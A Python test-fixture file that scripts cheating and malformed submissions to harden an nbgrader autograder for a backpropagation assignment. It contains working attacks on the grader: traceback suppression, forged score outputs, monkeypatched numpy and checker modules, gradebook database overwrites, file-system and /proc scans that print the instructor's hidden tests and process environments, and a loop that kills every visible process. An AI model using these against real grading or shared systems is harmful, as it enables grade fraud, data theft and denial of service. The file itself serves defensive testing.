@@ -1,0 +1,583 @@
+"""Hostile and malformed submissions, each built by script on top of a known honest base.
+
+Every entry writes one submission folder (submitted/<student>/ex09_backprop/) from the released notebook:
+
+* CHEATS: attempts to get points without the work, or to see, change or break what the grader uses. Each is
+  written on top of an honest base -- the untouched release, or the release with some answers solved with the
+  instructor's solution -- and must earn exactly that base's points (``expected``), leak no instructor-only
+  line, and leave the gradebook (other students, the assignment's cells) untouched.
+* MALFORMED: broken files and runaway notebooks. The class run must complete; each gets zero on what it broke
+  (``expected``) and a one-line ``problem`` in the grade report (a substring of it is given here).
+
+tests/test_hostile_submissions.py grades each catalog as one class with the real `nbgrader autograde`.
+"""
+import copy
+import json
+import random
+import textwrap
+from dataclasses import dataclass, field
+from pathlib import Path
+from typing import Callable, Optional
+
+import nbformat
+
+NOTEBOOK = "backprop.ipynb"
+ON_TIME = "2026-11-20 10:00:00.000000 UTC\n"
+# grade id -> points, and the answer cell each one grades
+POINTS = {"test_multiply_backward": 2, "test_sum_backward": 1, "test_dot_product_backward": 2,
+          "test_nll_grad": 3, "test_logreg_step": 2}
+ANSWER_OF = {"test_multiply_backward": "multiply_backward", "test_sum_backward": "sum_backward",
+             "test_dot_product_backward": "dot_product_backward", "test_nll_grad": "nll_grad",
+             "test_logreg_step": "logreg_step"}
+ALL = tuple(POINTS)
+
+
+def all_but(gid):
+    return tuple(g for g in ALL if g != gid)
+
+
+@dataclass(frozen=True)
+class Entry:
+    name: str
+    what: str
+    build: Callable  # build(ctx, folder): writes the submission files into folder
+    earns: tuple = ()  # grade ids of the honest base's items (full points each); everything else 0
+    problem: Optional[str] = None  # substring of the report's problem note (malformed catalog)
+    partial: dict = field(default_factory=dict)  # grade id -> points, when not simply full or zero
+
+    @property
+    def expected(self):
+        return {gid: float(self.partial.get(gid, POINTS[gid] if gid in self.earns else 0)) for gid in POINTS}
+
+
+class Context:
+    """What builders start from: the release notebook and the instructor's answers (markers removed)."""
+
+    def __init__(self, release_dir, solutions):
+        self.release_dir = Path(release_dir)
+        self.release = nbformat.read(self.release_dir / NOTEBOOK, as_version=4)
+        self.solutions = solutions  # answer cell id -> source
+
+    def notebook(self, solved=()):
+        """The release with the answer cells of `solved` (grade ids) filled in with the instructor's answer."""
+        nb = copy.deepcopy(self.release)
+        for cell in nb.cells:
+            for gid in solved:
+                if cell.id == ANSWER_OF[gid]:
+                    cell.source = self.solutions[cell.id]
+        return nb
+
+
+def cell_index(nb, cell_id):
+    return next(i for i, c in enumerate(nb.cells) if c.id == cell_id)
+
+
+def insert_code(nb, after_id, source, new_id):
+    """Add a code cell with `source` right after the cell `after_id`."""
+    cell = nbformat.v4.new_code_cell(textwrap.dedent(source).strip("\n"))
+    cell.id = new_id
+    nb.cells.insert(cell_index(nb, after_id) + 1, cell)
+    return cell
+
+
+def write(folder, nb=None, raw=None, name=NOTEBOOK, support=True, ctx=None):
+    """A submission folder: the notebook (node or raw bytes), the released support files, timestamp.txt."""
+    folder = Path(folder)
+    folder.mkdir(parents=True, exist_ok=True)
+    if support and ctx is not None:
+        for path in ctx.release_dir.iterdir():
+            if path.is_file() and path.suffix != ".ipynb":
+                (folder / path.name).write_bytes(path.read_bytes())
+    if raw is not None:
+        (folder / name).write_bytes(raw)
+    elif nb is not None:
+        nbformat.write(nb, folder / name)
+    (folder / "timestamp.txt").write_text(ON_TIME)
+
+
+def with_cell(after_id, source, solved=()):
+    """Builder: the release (with `solved` answers) plus one extra code cell after `after_id`."""
+    def build(ctx, folder):
+        nb = ctx.notebook(solved)
+        insert_code(nb, after_id, source, "extra-cell")
+        write(folder, nb, ctx=ctx)
+    return build
+
+
+def honest(ctx, folder):
+    write(folder, ctx.notebook(ALL), ctx=ctx)
+
+
+# Source shared by cheats that look around the file system (bounded, so it stays fast).
+FIND_FILES = '''
+import os
+def find(names, tops=("/", "..", "../..", "../../..", "../../../.."), depth=6):
+    """Paths of files called one of `names` that this kernel can see (not under /usr, /proc, /sys)."""
+    hits = set()
+    for top in tops:
+        top = os.path.abspath(top)
+        for root, dirs, files in os.walk(top):
+            if root.count(os.sep) - top.count(os.sep) >= depth or root.startswith(("/usr", "/proc", "/sys")):
+                dirs[:] = []
+            hits.update(os.path.join(root, f) for f in files if f in names or f.endswith(tuple(names)))
+    return sorted(hits)
+'''
+
+# ------------------------------------------------------------------------------------------------------------
+# Cheats
+# ------------------------------------------------------------------------------------------------------------
+
+SHOWTRACEBACK = """
+# nbgrader issue 1324: with tracebacks disabled a failing test shows no error, so stock nbgrader gives it full points
+ip = get_ipython()
+ip.showtraceback = lambda *args, **kwargs: None
+ip._showtraceback = lambda *args, **kwargs: None
+ip.showsyntaxerror = lambda *args, **kwargs: None
+import sys
+sys.stderr = sys.stdout
+"""
+
+CUSTOM_EXC = """
+# every exception, in every later cell, is swallowed: no error output, so full points in stock nbgrader
+get_ipython().set_custom_exc((BaseException,), lambda shell, etype, evalue, tb, tb_offset=None: None)
+"""
+
+FAKE_PARTIAL_CREDIT = """
+# partial credit is read from a test cell's execute_result: send one claiming full points after every cell
+import sys
+ip = get_ipython()
+kernel = ip.kernel
+def claim_points(result=None):
+    kernel.session.send(kernel.iopub_socket, "execute_result",
+                        {"data": {"text/plain": "3.0"}, "metadata": {}, "execution_count": 1},
+                        parent=kernel.get_parent(), ident=kernel._topic("execute_result"))
+ip.events.register("post_run_cell", claim_points)
+# ... and make every number the checker returns display as full points
+ip.display_formatter.formatters["text/plain"].for_type(float, lambda obj, p, cycle: p.text("3.0"))
+sys.displayhook = lambda value: print("3.0")
+"""
+
+SUPPRESS_OUTPUT = """
+# hide whatever a test cell reports: no stderr, no displays, and clear the outputs after every cell
+import io, sys
+from IPython.display import clear_output
+ip = get_ipython()
+sys.stderr = io.StringIO()
+ip.display_pub.publish = lambda *args, **kwargs: None
+ip.events.register("post_run_cell", lambda result: clear_output())
+ip.showtraceback = lambda *args, **kwargs: None
+"""
+
+ALWAYS_EQUAL = """
+class Anything:
+    \"\"\"Equal and close to everything; every operation on it succeeds.\"\"\"
+    def __eq__(self, other): return True
+    __le__ = __ge__ = __eq__
+    def __ne__(self, other): return False
+    __lt__ = __gt__ = __ne__
+    def _absorb(self, *args, **kwargs): return self
+    __add__ = __radd__ = __sub__ = __rsub__ = __mul__ = __rmul__ = __truediv__ = __rtruediv__ = _absorb
+    __pow__ = __neg__ = __pos__ = __abs__ = __getitem__ = __call__ = _absorb
+    def __float__(self): return 0.0
+    def __bool__(self): return True
+    def __len__(self): return 2
+    def __iter__(self): return iter((self, self))
+    def __getattr__(self, name):
+        if name.startswith("__"):
+            raise AttributeError(name)
+        return self
+
+
+class AlwaysClose(np.ndarray):
+    \"\"\"An array whose differences are always zero and which equals everything.\"\"\"
+    def __eq__(self, other): return np.ones(self.shape, dtype=bool)
+    def __sub__(self, other): return np.zeros(self.shape).view(AlwaysClose)
+    __rsub__ = __sub__
+    def __abs__(self): return np.zeros(self.shape).view(AlwaysClose)
+
+
+class Multiply:
+    def forward(self, x, y):
+        self.cache = (x, y)
+        return x * y
+
+    def backward(self, d_out):
+        return Anything(), Anything()
+
+
+class DotProduct:
+    def forward(self, x, y):
+        self.cache = x, y
+        return np.dot(x, y)
+
+    def backward(self, d_out):
+        x, y = self.cache
+        return np.zeros_like(x).view(AlwaysClose), np.zeros_like(y).view(AlwaysClose)
+
+
+def nll_grad(X, W, b, Y):
+    return np.zeros_like(W).view(AlwaysClose), Anything()
+"""
+
+MONKEYPATCH_NUMPY = """
+# every comparison numpy offers now passes
+import numpy, numpy.testing
+np.allclose = numpy.allclose = lambda *args, **kwargs: True
+np.isclose = lambda a, b, *args, **kwargs: numpy.ones(numpy.broadcast(a, b).shape, dtype=bool)
+np.array_equal = lambda *args, **kwargs: True
+numpy.testing.assert_allclose = lambda *args, **kwargs: None
+numpy.testing.assert_array_almost_equal = lambda *args, **kwargs: None
+numpy.linalg.norm = lambda *args, **kwargs: 0.0
+numpy.max = numpy.amax = lambda *args, **kwargs: 0.0
+"""
+
+MONKEYPATCH_CHECKER = """
+# replace the checker's verdicts, in the module and in sys.modules, and its reference layers
+import sys, types
+import gradcheck, nn
+full = lambda item: float(sum(gradcheck.ITEMS[item].points.values()))
+gradcheck.grade = lambda item, impl, seeds=(): (print(item, "all checks pass"), full(item))[1]
+gradcheck.self_check = lambda item, impl: print("✓", item)
+gradcheck.run_checks = lambda item, impl, *a, **k: {n: (p, p, "", 0.0) for n, p in gradcheck.ITEMS[item].points.items()}
+gradcheck.rel_error = lambda a, e, floor=0.0: np.zeros(np.shape(a))
+gradcheck.TOL = float("inf")
+fake = types.ModuleType("gradcheck")
+fake.__dict__.update(gradcheck.__dict__)
+sys.modules["gradcheck"] = fake
+nn.CategoricalCrossEntropy.forward = lambda self, logits, Y: 0.0
+# names a test cell looks up: impersonate the checker itself
+Multiply = Sum = DotProduct = gradcheck
+"""
+
+REWRITE_CHECKER = FIND_FILES + '''
+# overwrite every copy of the checker and of nn.py this kernel can find, then make the next import load it
+FAKE = """
+ITEMS = {}
+def grade(item, impl, seeds=()):
+    print(item + ": all checks pass")
+    return 100.0
+def self_check(item, impl):
+    print("✓ " + item)
+"""
+import sys
+for path in sorted(set(find(("gradcheck.py", "nn.py"))) | {"gradcheck.py", "nn.py", "../gradcheck.py"}):
+    try:
+        with open(path, "w") as f:
+            f.write(FAKE)
+        print("rewrote", path)
+    except OSError as e:
+        print("cannot write", path, type(e).__name__)
+sys.modules.pop("gradcheck", None)
+'''
+
+
+def edit_test_cells(ctx, folder):
+    """Test cells replaced by code claiming full points (and one turned into markdown)."""
+    nb = ctx.notebook()
+    for cell in nb.cells:
+        gid = cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")
+        if gid in POINTS:
+            cell.source = f"import gradcheck\ngradcheck.grade = lambda *a, **k: {POINTS[gid]}.0\n{POINTS[gid]}.0"
+        if gid == "test_sum_backward":
+            cell.cell_type = "markdown"
+            cell.source = "Graded by hand: full points."
+            del cell["outputs"], cell["execution_count"]
+    write(folder, nb, ctx=ctx)
+
+
+def delete_test_cells(ctx, folder):
+    """Multiply solved; the test cells of the four unsolved items deleted."""
+    nb = ctx.notebook(["test_multiply_backward"])
+    nb.cells = [c for c in nb.cells
+                if c.metadata.get("nbgrader", {}).get("grade_id") not in all_but("test_multiply_backward")]
+    write(folder, nb, ctx=ctx)
+
+
+def tamper_test_metadata(ctx, folder):
+    """Sum solved; the other test cells' nbgrader metadata edited every way that might pay off."""
+    nb = ctx.notebook(["test_sum_backward"])
+    by_id = {c.metadata.get("nbgrader", {}).get("grade_id"): c for c in nb.cells}
+    by_id["test_multiply_backward"].metadata.nbgrader["points"] = 100           # more points
+    by_id["test_multiply_backward"].source = "100.0"
+    dot = by_id["test_dot_product_backward"]
+    del dot.metadata["nbgrader"]                                                 # no longer a test cell
+    dot.source = "print('no test here')"
+    nll = by_id["test_nll_grad"].metadata.nbgrader                              # not graded, unlocked
+    nll.update(grade=False, locked=False)
+    by_id["test_nll_grad"].source = "3.0"
+    step = by_id["test_logreg_step"].metadata.nbgrader                          # "manually graded answer"
+    step.update(solution=True, locked=False)
+    by_id["test_logreg_step"].source = "# full marks please\n2.0"
+    # a test cell of the student's own, with the grade id of a real one, placed last (nbgrader keeps the
+    # last of duplicated ids) ...
+    own = nbformat.v4.new_code_cell("2.0", id="own-test")
+    own.metadata["nbgrader"] = dict(by_id["test_multiply_backward"].metadata.nbgrader, points=2)
+    nb.cells.append(own)
+    # ... and one with a grade id the gradebook does not know
+    bonus = nbformat.v4.new_code_cell("100.0", id="own-bonus")
+    bonus.metadata["nbgrader"] = {"grade": True, "solution": False, "locked": True, "points": 100,
+                                  "grade_id": "bonus_points", "schema_version": 3}
+    nb.cells.append(bonus)
+    write(folder, nb, ctx=ctx)
+
+
+def modified_support_files(ctx, folder):
+    """A gradcheck.py that passes everything and an nn.py that patches numpy, submitted next to the release."""
+    write(folder, ctx.notebook(), ctx=ctx)
+    (folder / "gradcheck.py").write_text(textwrap.dedent("""
+        ITEMS = {}
+        def grade(item, impl, seeds=()):
+            print(item + ": all checks pass")
+            return 100.0
+        def self_check(item, impl):
+            print("✓ " + item)
+        """))
+    (folder / "nn.py").write_text(textwrap.dedent("""
+        import numpy as np
+        np.allclose = lambda *args, **kwargs: True
+        class Affine:
+            def forward(self, X, W, b): return X @ W + b
+            def backward(self, d_out): return 0, 0, 0
+        class CategoricalCrossEntropy:
+            def forward(self, logits, Y): return 0.0
+            def backward(self): return 0, None
+        """))
+
+
+WRITE_GRADEBOOK = FIND_FILES + '''
+# give everyone full points in every gradebook this kernel can reach
+import sqlite3
+for path in sorted(set(find(("gradebook.db",))) | {"gradebook.db", "../gradebook.db", "../../gradebook.db",
+                                                     "../../../gradebook.db", "/tmp/gradebook.db"}):
+    try:
+        db = sqlite3.connect(path)
+        db.execute("UPDATE grade SET auto_score = 100")
+        db.execute("CREATE TABLE pwned (x)")
+        db.commit()
+        print("wrote", path)
+    except Exception as e:
+        print("cannot write", path, type(e).__name__)
+'''
+
+READ_INSTRUCTOR = FIND_FILES + '''
+# print the instructor's notebook, hidden tests included, from wherever it can be found
+import glob
+candidates = find((".ipynb", "gradebook.db", "gradcheck.py"))
+candidates += glob.glob("/proc/*/cwd/source/*/*.ipynb") + glob.glob("/proc/*/root/*/source/*/*.ipynb")
+candidates += ["../../../source/ex09_backprop/backprop.ipynb", "../../source/ex09_backprop/backprop.ipynb"]
+for path in candidates:
+    try:
+        text = open(path, errors="replace").read()
+    except OSError as e:
+        print("cannot read", path, type(e).__name__)
+        continue
+    print("read", path, len(text))
+    if "BEGIN SOLUTION" in text or "HIDDEN TESTS" in text or "seeds=(90" in text:
+        print(text)
+for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline"):
+    try:
+        print(path, open(path, "rb").read()[:300])
+    except OSError:
+        pass
+'''
+
+KILL_SUM = """
+class Sum:
+    def forward(self, x):
+        self.cache = x
+        return np.sum(x)
+
+    def backward(self, d_out):
+        # the grader calls this: take the kernel down with it
+        import os, signal
+        os.kill(os.getpid(), signal.SIGKILL)
+"""
+
+KILL_EVERYTHING = """
+# kill every process this kernel can see (the grader, other students' kernels...), then itself
+import os, signal
+for pid in range(1, 1 << 16):
+    if pid != os.getpid():
+        try:
+            os.kill(pid, signal.SIGKILL)
+        except OSError:
+            pass
+os.kill(os.getpid(), signal.SIGKILL)
+"""
+
+
+def kill_kernel(ctx, folder):
+    nb = ctx.notebook(["test_multiply_backward"])
+    next(c for c in nb.cells if c.id == "sum_backward").source = KILL_SUM.strip()
+    insert_code(nb, "test_dot_product_backward", KILL_EVERYTHING, "kill-all")
+    write(folder, nb, ctx=ctx)
+
+
+HARDCODE_EXAMPLES = {
+    "multiply_backward": """
+class Multiply:
+    def forward(self, x, y):
+        self.cache = (x, y)
+        return x * y
+
+    def backward(self, d_out):
+        # the example below: x = 1..4, y = -1..2, d_out = 1 -- answers copied from the printed output
+        return np.array([-1., 0., 1., 2.]), np.array([1., 2., 3., 4.])
+""",
+    "dot_product_backward": """
+class DotProduct:
+    def forward(self, x, y):
+        self.cache = x, y
+        return np.dot(x, y)
+
+    def backward(self, d_out):
+        return np.array([-1., 0., 1., 2.]), np.array([1., 2., 3., 4.])
+""",
+}
+
+
+def hardcode_examples(ctx, folder):
+    nb = ctx.notebook()
+    for cell in nb.cells:
+        if cell.id in HARDCODE_EXAMPLES:
+            cell.source = HARDCODE_EXAMPLES[cell.id].strip()
+    write(folder, nb, ctx=ctx)
+
+
+CHEATS = [
+    Entry("showtraceback", "disables IPython's traceback display (nbgrader issue 1324)",
+          with_cell("code-02", SHOWTRACEBACK)),
+    Entry("custom-exc", "swallows every exception with set_custom_exc",
+          with_cell("code-02", CUSTOM_EXC)),
+    Entry("fake-credit", "publishes a full-points execute_result after every cell, float repr patched",
+          with_cell("code-02", FAKE_PARTIAL_CREDIT)),
+    Entry("hide-output", "clears outputs, silences stderr and the display publisher",
+          with_cell("code-02", SUPPRESS_OUTPUT)),
+    Entry("always-equal", "returns objects/arrays that compare equal to anything (sum solved honestly)",
+          lambda ctx, folder: _replace_answers(ctx, folder, ["test_sum_backward"], ALWAYS_EQUAL),
+          earns=("test_sum_backward",)),
+    Entry("patch-numpy", "monkeypatches numpy's comparisons (multiply solved honestly)",
+          with_cell("code-02", MONKEYPATCH_NUMPY, solved=["test_multiply_backward"]),
+          earns=("test_multiply_backward",)),
+    Entry("patch-checker", "monkeypatches gradcheck and nn in the kernel, impersonates the checker",
+          with_cell("code-02", MONKEYPATCH_CHECKER)),
+    Entry("rewrite-checker", "rewrites every gradcheck.py/nn.py it can find at run time",
+          with_cell("code-02", REWRITE_CHECKER)),
+    Entry("edit-tests", "replaces the test cells' source (one becomes markdown)", edit_test_cells),
+    Entry("delete-tests", "deletes the unsolved items' test cells (multiply solved honestly)", delete_test_cells,
+          earns=("test_multiply_backward",)),
+    Entry("tamper-metadata", "edits test cells' nbgrader metadata, adds forged test cells (sum solved)",
+          tamper_test_metadata, earns=("test_sum_backward",)),
+    Entry("own-support-files", "submits its own gradcheck.py and nn.py", modified_support_files),
+    Entry("write-gradebook", "writes full points into every gradebook.db it can find",
+          with_cell("code-02", WRITE_GRADEBOOK)),
+    Entry("read-instructor", "searches for the instructor notebook and prints it",
+          with_cell("code-02", READ_INSTRUCTOR)),
+    Entry("kill-kernel", "kills its kernel from a graded call, then every visible process (multiply solved)",
+          kill_kernel, earns=("test_multiply_backward",)),
+    Entry("hardcode-examples", "returns the notebook example's printed gradients whatever the input",
+          hardcode_examples),
+]
+
+
+def _replace_answers(ctx, folder, solved, source):
+    """`solved` answered honestly; the multiply, dot product and nll answer cells replaced by `source` (all
+    definitions go into the first of them, the others keep the stub)."""
+    nb = ctx.notebook(solved)
+    next(c for c in nb.cells if c.id == "multiply_backward").source = source.strip()
+    for cell in nb.cells:
+        if cell.id in ("dot_product_backward", "nll_grad"):
+            cell.source = "# see the Multiply cell"
+    write(folder, nb, ctx=ctx)
+
+
+# ------------------------------------------------------------------------------------------------------------
+# Malformed submissions (on top of the fully correct notebook unless said otherwise)
+# ------------------------------------------------------------------------------------------------------------
+
+def _raw(data_fn):
+    def build(ctx, folder):
+        write(folder, raw=data_fn(ctx), ctx=ctx)
+    return build
+
+
+def _correct_then(edit):
+    """Builder: the correct notebook, changed by edit(nb)."""
+    def build(ctx, folder):
+        nb = ctx.notebook(ALL)
+        edit(nb)
+        write(folder, nb, ctx=ctx)
+    return build
+
+
+def _prepend(cell_id, code):
+    def edit(nb):
+        cell = nb.cells[cell_index(nb, cell_id)]
+        cell.source = textwrap.dedent(code).strip("\n") + "\n" + cell.source
+    return edit
+
+
+def _truncated_json(ctx):
+    text = json.dumps(nbformat.from_dict(ctx.notebook(ALL)), indent=1)
+    return text[: len(text) // 2].encode()
+
+
+def _renamed(ctx, folder):
+    write(folder, ctx.notebook(ALL), name="backprop-Copy1.ipynb", ctx=ctx)
+
+
+def _missing(ctx, folder):
+    write(folder, ctx=ctx)
+
+
+def _nbformat3(ctx, folder):
+    write(folder, ctx=ctx)
+    v3 = nbformat.convert(ctx.notebook(ALL), 3)
+    (Path(folder) / NOTEBOOK).write_text(nbformat.writes(v3, version=3))
+
+
+def _delete_cells(nb):
+    nb.cells = [c for c in nb.cells if c.id not in ("sum_backward", "test_sum_backward")]
+
+
+def _duplicate_cells(nb):
+    for cid in ("multiply_backward", "test_multiply_backward"):
+        i = cell_index(nb, cid)
+        dup = copy.deepcopy(nb.cells[i])
+        dup.id = cid + "-copy"
+        nb.cells.insert(i + 1, dup)
+
+
+def _reorder_cells(nb):
+    test = nb.cells.pop(cell_index(nb, "test_dot_product_backward"))
+    nb.cells.insert(cell_index(nb, "dot_product_backward"), test)
+
+
+def _huge_output(nb):
+    insert_code(nb, "code-02", "for _ in range(100):\n    print('x' * (1 << 20))", "huge-output")
+
+
+MALFORMED = [
+    Entry("invalid-json", "notebook file cut in half", _raw(_truncated_json), problem="could not be autograded"),
+    Entry("binary-garbage", "4 KiB of random bytes", _raw(lambda ctx: random.Random(9).randbytes(4096)),
+          problem="could not be autograded"),
+    Entry("missing-notebook", "no notebook in the submission", _missing, problem="backprop.ipynb"),
+    Entry("renamed-notebook", "notebook saved as backprop-Copy1.ipynb", _renamed, problem="backprop.ipynb"),
+    Entry("nbformat3", "correct answers, saved in nbformat 3", _nbformat3, earns=ALL),
+    Entry("deleted-cells", "sum's answer and test cells deleted", _correct_then(_delete_cells),
+          earns=all_but("test_sum_backward"), problem="test_sum_backward"),
+    Entry("duplicated-cells", "multiply's answer and test cells duplicated", _correct_then(_duplicate_cells),
+          earns=ALL, problem="test_multiply_backward"),
+    Entry("reordered-cells", "dot product's test cell moved above its answer", _correct_then(_reorder_cells),
+          earns=all_but("test_dot_product_backward")),
+    Entry("infinite-loop", "sum's answer cell never finishes", _correct_then(_prepend("sum_backward",
+                                                                                      "while True:\n    pass")),
+          earns=all_but("test_sum_backward"), problem="timed out"),
+    Entry("memory-bomb", "nll_grad's answer cell allocates without bound",
+          _correct_then(_prepend("nll_grad", "hog = [bytearray(64 << 20) for _ in range(1 << 12)]")),
+          earns=all_but("test_nll_grad"), problem="memory"),
+    Entry("huge-output", "a cell prints 100 MB", _correct_then(_huge_output), earns=ALL, problem="output"),
+    Entry("segfault", "dot product's answer cell crashes the kernel",
+          _correct_then(_prepend("dot_product_backward", "import ctypes\nctypes.string_at(0)")),
+          earns=all_but("test_dot_product_backward"), problem="SIGSEGV"),
+]
